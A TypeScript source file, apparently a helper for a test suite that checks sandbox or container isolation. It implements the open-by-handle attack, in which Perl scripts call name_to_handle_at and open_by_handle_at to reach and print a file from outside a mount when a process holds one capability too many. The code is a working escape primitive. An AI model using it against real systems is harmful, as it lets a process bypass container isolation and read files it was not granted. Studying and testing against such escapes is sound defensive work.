// Opens a file by its handle, which bypasses every mount: what root can do with one capability too many. Written in
// Perl, which can make system calls and is installed wherever a shell is.
import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'

const perl = '/usr/bin/perl'
const calls: Readonly<Record<string, readonly [name: number, open: number]>> = { x64: [303, 304], arm64: [264, 265] }

/** Why this machine cannot run the attack; `null` if it can. */
export function noHandlesHere(): string | null {
  if (!existsSync(perl)) return 'no perl here to open a file by its handle'
  return calls[process.arch] === undefined ? `the system calls of ${process.arch} are not known` : null
}

export function handleOf(file: string): string {
  const [call] = calls[process.arch] ?? [0]
  const script = `my $path = "$ARGV[0]\\0"; my $handle = pack("LlA0x128", 128, 0, ""); my $mount = pack("l", 0);
    syscall(${call}, -100, $path, $handle, $mount, 0) == 0 or die "no handle: $!"; print unpack("H*", $handle)`
  return execFileSync(perl, ['-e', script, file], { encoding: 'utf8' })
}

/** A program that reads the file, given any folder of the same file system. */
export function openByHandle(handle: string, folder: string): readonly string[] {
  const [, call] = calls[process.arch] ?? [0, 0]
  const script = `sysopen(my $folder, $ARGV[0], 0) or die "no folder: $!"; my $handle = pack("H*", $ARGV[1]);
    my $file = syscall(${call}, fileno($folder), $handle, 0); die "refused: $!" if $file < 0;
    open(my $in, "<&=", $file); print <$in>`
  return [perl, '-e', script, folder, handle]
}
